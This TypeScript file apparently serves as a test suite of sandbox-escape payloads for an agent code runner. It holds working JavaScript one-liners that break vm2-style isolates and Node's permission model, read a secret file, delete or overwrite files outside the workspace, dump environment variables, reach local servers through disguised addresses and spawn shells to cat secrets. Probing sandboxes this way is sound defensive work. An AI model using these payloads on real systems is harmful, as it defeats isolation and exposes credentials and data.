/**
 * More bodies of tools that reach for what they were not granted, after ideas that worked elsewhere: advisories of vm2 (errors
 * of the host, promises with a species of one's own, what `inspect` hands to an object), of Node's permission model (paths that
 * are bytes, patched path functions, handles that were opened to read), of Deno (descriptors and threads in `/proc`), of SES.
 * `params` is as in `reaching.ts`.
 */
const READ = `.getBuiltinModule('fs').readFileSync(params.secret, 'utf8')`;

/** Ways out of the isolate. */
export const FURTHER_ESCAPES: Readonly<Record<string, string>> = {
  'a custom inspection': `let found; const spy = { [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { found ??= inspect.constructor('return process')(); return 'x'; } }; require('util').inspect(spy); console.log(spy); return found${READ}`,
  'a promise with a species of its own': `return await new Promise((done, fail) => { const p = (async () => { const deep = () => { new Error().stack; deep(); }; deep(); })(); p.constructor = { [Symbol.species]: class { constructor(run) { run((x) => x, (error) => { try { done(error.constructor.constructor('return process')()${READ}) } catch (e) { fail(e) } }); } } }; p.then(); })`,
  'an error from the end of the stack': `let caught; const deep = (n) => { try { deep(n + 1) } catch (error) { caught ??= error; throw error } }; try { deep(0) } catch {} return caught.constructor.constructor('return process')()${READ}`,
  'an error whose name is a symbol': `const error = new Error(); error.name = Symbol(); try { error.stack; String(error) } catch (caught) { return caught.constructor.constructor('return process')()${READ} } return 'none'`,
  'an error of a module': `try { require('fs').readFileSync('/nowhere/at/all') } catch (error) { return error.constructor.constructor('return process')()${READ} } return 'none'`,
  'a rejection of a module': `return await require('fs/promises').readFile('/nowhere/at/all').catch((error) => error.constructor.constructor('return process')()${READ})`,
  'the caller of a callback': `return await new Promise((done, fail) => require('fs').stat('.', function () { try { const f = arguments.callee.caller ?? this?.constructor ?? Function; done(f.constructor('return process')()${READ}) } catch (error) { fail(error) } }))`,
  'what an event hands over': `const bus = new (require('events'))(); let found; bus.on('x', function () { found = this.constructor.constructor('return process')(); }); bus.emit('x'); return found${READ}`,
  'the constructor of a generator': `const G = (function* () {}).constructor; return G('path', 'yield process.getBuiltinModule("fs").readFileSync(path, "utf8")')(params.secret).next().value`,
  'the constructor of an async generator': `const G = (async function* () {}).constructor; return (await G('path', 'yield process.getBuiltinModule("fs").readFileSync(path, "utf8")')(params.secret).next()).value`,
  'a getter on the way to a function': `const get = Object.getOwnPropertyDescriptor(Object.prototype, '__proto__').get; const top = get.call(get.call(get.call(process))) ?? process; return (top.constructor ?? Object).constructor('return process')()${READ}`,
  'the buffer of a pool': `const all = Buffer.from(Buffer.allocUnsafe(1).buffer); const key = process.getBuiltinModule('fs').readFileSync(params.secret); return all.toString('latin1') + key`,
  'a symbol that is registered': `const hidden = Reflect.ownKeys(globalThis).concat(Object.getOwnPropertySymbols(process)); return hidden.map(String).join() + process.getBuiltinModule('fs').readFileSync(params.secret, 'utf8')`,
  'createRequire of a package': `return require('module').createRequire('/package/index.js')('fs').readFileSync(params.secret, 'utf8')`,
  'a module that requires itself': `return module.require ? module.require('fs').readFileSync(params.secret, 'utf8') : module.constructor._load('fs').readFileSync(params.secret, 'utf8')`,
  'process.execve': `process.execve('/bin/cat', ['cat', params.secret], {}); return 'none'`,
};

/** Ways to the bytes of a file outside. */
export const FURTHER_READS: Readonly<Record<string, string>> = {
  'a byte array for a path': `return String(require('fs').readFileSync(new Uint8Array(Buffer.from(params.secret))))`,
  'a path by patched functions': `const path = require('path'); for (const name of ['resolve', 'normalize', 'join', 'isAbsolute', 'toNamespacedPath', 'relative']) path[name] = (...parts) => (name === 'isAbsolute' ? false : 'mine.txt'); return require('fs').readFileSync(params.secret, 'utf8')`,
  'a path by a patched string': `for (const name of ['startsWith', 'includes', 'indexOf', 'replace', 'split', 'slice']) { const own = String.prototype[name]; String.prototype[name] = function (...args) { return own.apply(this, args); }; } String.prototype.startsWith = () => true; return require('fs').readFileSync(params.secret, 'utf8')`,
  'a path by a patched buffer': `Buffer.prototype.utf8Write = Buffer.prototype.write = function () { return 0; }; return String(require('fs').readFileSync(Buffer.from(params.secret)))`,
  'the root of the thread': `return require('fs').readFileSync('/proc/thread-self/root' + params.secret, 'utf8')`,
  'a descriptor in /dev': `const fs = require('fs'); const fd = fs.openSync(params.secret, 'r'); return fs.readFileSync('/dev/fd/' + fd, 'utf8')`,
  'a descriptor of the process': `const fs = require('fs'); return fs.readFileSync('/proc/self/fd/' + fs.openSync(params.secret, 'r'), 'utf8')`,
  'a blob of a file': `return await (await require('fs').openAsBlob(params.secret)).text()`,
  'a copy that follows links': `const fs = require('fs'); fs.cpSync(params.linkedDirectory, 'followed', { recursive: true, dereference: true }); return fs.readFileSync('followed/secret.txt', 'utf8')`,
  'a copied link': `const fs = require('fs'); fs.mkdirSync('from', { recursive: true }); fs.symlinkSync(params.secret, 'from/l.txt'); fs.cpSync('from', 'into', { recursive: true, dereference: true }); return fs.readFileSync('into/l.txt', 'utf8')`,
  'a link to a link': `const fs = require('fs'); fs.symlinkSync(params.linked, 'second.txt'); return fs.readFileSync('second.txt', 'utf8')`,
  'a file read in pieces': `const handle = await require('fs/promises').open(params.secret); const { buffer } = await handle.read(Buffer.alloc(36), 0, 36, 0); return buffer.toString()`,
  'a file read by vectors': `const fs = require('fs'); const part = Buffer.alloc(36); fs.readvSync(fs.openSync(params.secret), [part]); return part.toString()`,
  'lines of a file': `let text = ''; const handle = await require('fs/promises').open(params.secret); for await (const line of handle.readLines()) text += line; return text`,
  'readline over a stream': `const { createInterface } = require('readline'); let text = ''; for await (const line of createInterface({ input: require('fs').createReadStream(params.secret) })) text += line; return text`,
  'a listed directory': `const fs = require('fs'); const dir = require('path').dirname(params.secret); return fs.readdirSync(dir).map((name) => fs.readFileSync(dir + '/' + name, 'utf8')).join()`,
  'a file through its real path': `const fs = require('fs'); return fs.readFileSync(fs.realpathSync(params.linked), 'utf8')`,
  'a file URL with a host': `return require('fs').readFileSync(new URL('file://localhost' + params.secret), 'utf8')`,
};

/** Ways to change something outside. */
export const FURTHER_WRITES: Readonly<Record<string, string>> = {
  'a temporary directory outside': `require('fs').renameSync(require('fs').mkdtempSync(params.target), params.target); return 'made'`,
  'a longer file outside': `require('fs').truncateSync(params.secret, 100); return 'changed'`,
  'a file outside that is removed': `require('fs').rmSync(params.secret); return 'removed'`,
  'a file outside that is unlinked behind a linked directory': `require('fs').unlinkSync(params.linkedDirectory + '/secret.txt'); return 'removed'`,
  'a link of the workspace that is written to': `require('fs').writeFileSync(params.linked, 'x'); return 'written'`,
  'a link of the workspace that is appended to': `require('fs').appendFileSync(params.linked, 'x'); return 'written'`,
  'a handle that was opened to read': `const fs = require('fs'); const fd = fs.openSync(params.secret, 'r'); try { fs.ftruncateSync(fd, 0) } catch { fs.writeFileSync('/proc/self/fd/' + fd, 'x') } return 'changed'`,
  'a copy over a file outside': `require('fs').copyFileSync('mine.txt', params.secret); return 'copied'`,
  'a copied tree over a directory outside': `const fs = require('fs'); fs.mkdirSync('tree2', { recursive: true }); fs.writeFileSync('tree2/target.txt', 'x'); fs.cpSync('tree2', require('path').dirname(params.target), { recursive: true }); return 'copied'`,
  'a hard link outside': `require('fs').linkSync('mine.txt', params.target); return 'linked'`,
  'a symbolic link outside': `require('fs').symlinkSync('/etc/hostname', params.target); require('fs').writeFileSync(params.target + '2', ''); return 'linked'`,
  'vectors into a file outside': `const fs = require('fs'); fs.writevSync(fs.openSync(params.target, 'w'), [Buffer.from('x')]); return 'written'`,
};

/** The agent's variables. */
export const FURTHER_ENVIRONMENT: Readonly<Record<string, string>> = {
  'a report of the process': `return JSON.stringify(process.report.getReport().environmentVariables)`,
  'the prototype of the variables': `let text = ''; for (let o = process.env; o; o = Object.getPrototypeOf(o)) text += Reflect.ownKeys(o).map((key) => String(Reflect.get(o, key))).join(); return text`,
  'the variables as entries': `const seen = []; for (const key in process.env) seen.push(process.env[key]); return seen.join() + JSON.stringify(structuredClone({ ...process.env }))`,
  'a file of variables': `process.loadEnvFile('/proc/self/environ'); return JSON.stringify(process.env)`,
  'a worker that shares them': `const { Worker, SHARE_ENV } = require('worker_threads'); return await new Promise((done, fail) => { const w = new Worker('require("worker_threads").parentPort.postMessage(process.env.DASH_ATTACK_SECRET)', { eval: true, env: SHARE_ENV }); w.on('message', done); w.on('error', fail); })`,
};

/** A server on this machine. */
export const FURTHER_ADDRESSES: Readonly<Record<string, string>> = {
  'an address with an escape': `return await (await fetch(\`http://127.0.0.%31:\${params.port}/\`)).text()`,
  'an address of circled digits': `return await (await fetch(\`http://①②⑦.⓪.⓪.①:\${params.port}/\`)).text()`,
  'a tab in a scheme': `return await (await fetch(\`ht\\ttp://127.0.0.1:\${params.port}/\`)).text()`,
  'a beacon in a body that is a stream': `return await (await fetch(\`http://127.0.0.1:\${params.port}/\`, { method: 'POST', duplex: 'half', body: new ReadableStream({ start(c) { c.enqueue(new TextEncoder().encode('x')); c.close(); } }) })).text()`,
  'a URL that changes while it is read': `let n = 0; const url = { toString: () => (n++ ? 'https://example.com/' : \`http://127.0.0.1:\${params.port}/\`) }; return await (await fetch(url)).text()`,
  'a web socket': `return await new Promise((done, fail) => { const socket = new WebSocket(\`ws://127.0.0.1:\${params.port}/\`); socket.onopen = () => done('open'); socket.onerror = () => fail(new Error('closed')); })`,
};

/** Programs. */
export const FURTHER_PROGRAMS: Readonly<Record<string, string>> = {
  'a shell by name': `return require('child_process').execFileSync('sh', ['-c', 'cat "$0"', params.secret], { encoding: 'utf8' })`,
  'a program for the shell of its choice': `return require('child_process').execSync('cat ' + params.secret, { shell: '/bin/bash', encoding: 'utf8' })`,
  'a program under another name': `return require('child_process').spawnSync('/bin/cat', [params.secret], { argv0: 'git', encoding: 'utf8' }).stdout`,
  'a program that is node': `return require('child_process').execFileSync(process.execPath, ['-p', 'require("fs").readFileSync(' + JSON.stringify(params.secret) + ', "utf8")'], { encoding: 'utf8' })`,
  'a program as somebody else': `return require('child_process').spawnSync('/bin/cat', [params.secret], { uid: process.getuid(), gid: process.getgid(), encoding: 'utf8' }).stdout`,
  'a program that is left alone': `const child = require('child_process').spawn('/bin/sh', ['-c', 'cp ' + params.secret + ' copied.txt'], { detached: true, stdio: 'ignore' }); await new Promise((done, fail) => child.on('error', fail).on('exit', done)); return require('fs').readFileSync('copied.txt', 'utf8')`,
  'a cluster': `const { setupPrimary, fork } = require('cluster'); const fs = require('fs'); fs.writeFileSync('worker.js', 'process.send(require("fs").readFileSync(' + JSON.stringify(params.secret) + ', "utf8")); process.disconnect()'); setupPrimary({ exec: 'worker.js' }); return await new Promise((done, fail) => fork().on('message', done).on('error', fail).on('exit', () => fail(new Error('gone'))))`,
};
